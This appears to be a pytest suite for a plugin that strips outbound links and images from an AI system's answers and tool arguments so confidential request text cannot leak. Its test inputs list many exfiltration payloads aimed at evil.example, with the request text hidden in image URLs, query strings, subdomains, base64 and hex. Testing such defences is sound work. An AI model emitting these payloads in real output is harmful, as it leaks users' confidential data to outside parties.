"""What would carry text elsewhere, and what stays."""

from __future__ import annotations

import base64

import pytest

from plugins.routing.answer_links import IMAGE_GONE, LINK_GONE, URL_GONE, Links, held_from

REQUEST = "The merger with Falcon Industries closes on 4 March. See https://intra.example/wiki?page=merger and help me."
B64 = base64.urlsafe_b64encode(b"merger with Falcon Industries closes").decode()
HEX = b"merger with Falcon Industries".hex()


def links(*hosts: str) -> Links:
    return Links(lambda: [REQUEST], hosts)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p.png)",
        "![x](https://evil.example/p.png?d=mergerwithfalcon)",
        "![](//evil.example/p)",
        '![a [b] c](https://evil.example/a "title")',
        "![x](<https://evil.example/p?a b>)",
        "![x](\\\\evil.example/p)",
        "![x](&#104;ttps://evil.example/p)",
        "![x](https:evil.example/p)",
        '<img src="https://evil.example/p">',
        "<IMG alt=x SRC=https://evil.example/p>",
        '<img srcset="a.png 1x, https://evil.example/p 2x">',
        "<div style=\"background: url('https://evil.example/p')\">",
        "[id]: https://evil.example/p",
        "[open](https://evil.example/?q=merger+with+falcon+industries)",
        "[open](https://evil.example/?a=mergerwith&b=falconindus)",
        "[open](https://evil.example/merger-with-falcon-industries)",
        f"[open](https://evil.example/{B64})",
        f"[open](https://evil.example/x#{HEX})",
        "[open](https://evil.example/?q=%2520merger%2520with%2520falcon)",
        "[open](https://merger-with-falcon-industries.evil.example/)",
        "[open](https://falcon:march@evil.example/)",
        "[mail](mailto:a@evil.example?body=merger%20with%20falcon)",
        "see https://evil.example/?q=mergerwithfalcon now",
        "<a href='https://evil.example/?q=merger with falcon'>x</a>",
        "wss://evil.example/mergerwithfalconindustries",
        "[open](https://evil.example/" + "Ab3" * 14 + ")",
    ],
)
def test_what_would_carry_text_elsewhere_is_removed(text: str) -> None:
    made = links()
    said = made.clean(f"Here: {text if not text.startswith('[id') else chr(10) + text}")
    assert "evil.example" not in said
    assert made.removed == 1
    assert IMAGE_GONE in said or LINK_GONE in said or URL_GONE in said


@pytest.mark.parametrize(
    "text",
    [
        "no address at all, 3 < 4 and a[0](b)",
        "[docs](https://docs.example/guide/getting-started)",
        "![local](chart.png) and ![data](data:image/png;base64,AAAA)",
        "[wiki](https://intra.example/wiki?page=merger)",
        "![named by the request](https://intra.example/wiki?page=merger)",
        "http://localhost:8000/?q=merger+with+falcon+industries",
        "![chart](http://10.0.0.7/chart.png?t=mergerwithfalcon)",
        "[trusted](https://ok.example/?q=mergerwithfalconindustries)",
        "![trusted](https://ok.example/p.png)",
        "[issue](https://code.example/org/repo/issues/17002)",
        "https://docs.example/how-to-configure-your-own-server-with-many-words-in-a-row.html",
        "[mail](mailto:help@example.org)",
        "[anchor](#merger-with-falcon-industries)",
    ],
)
def test_what_stays(text: str) -> None:
    made = links("ok.example")
    assert made.clean(text) == text
    assert made.removed == 0


def test_words_are_kept_and_the_place_is_marked() -> None:
    assert links().clean("![our plan](https://e.example/p)") == f"our plan {IMAGE_GONE}"
    assert links().clean("[our plan](https://e.example/?q=mergerwithfalcon)") == f"our plan {LINK_GONE}"


def test_arguments_stay_json() -> None:
    made = links()
    said = made.clean_arguments('{"url": "https:\\/\\/evil.example\\/?q=mergerwithfalcon", "n": 1}')
    assert said == f'{{"url": "{URL_GONE}", "n": 1}}'
    plain = '{"url": "https://docs.example/a", "cmd": "ls ![x]"}'
    assert links().clean_arguments(plain) == plain


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p?q=1) and text",
        "see https://evil.example/p?q=mergerwithfalcon now",
        "a <img src='https://evil.example/p'> b",
        "[t](https://evil.example/mergerwithfalconindustries) z",
        "x](https://evil.example/?q=mergerwithfalcon) z",
        "(https://evil.example/?q=mergerwithfalcon) z",
        "![](//evil.example/p) z",
        "[a]: https://evil.example/p z",
    ],
)
def test_whatever_the_pieces_nothing_of_an_address_goes_out(text: str) -> None:
    """Cut in two at every place: what goes out first, and then the rest, holds no part of it."""
    for end in range(len(text) + 1):
        made = links()
        at = held_from(text[:end])
        out = made.clean(text[:at]) + made.clean(text[at:])
        assert "evil" not in out, (text[:at], text[at:])


def test_ordinary_text_is_not_held() -> None:
    for text in ("Hello there. ", "a list: [1, 2, 3] and ", "x < 4, ", "the path /usr/bin ", "end."):
        assert held_from(text) == len(text), text
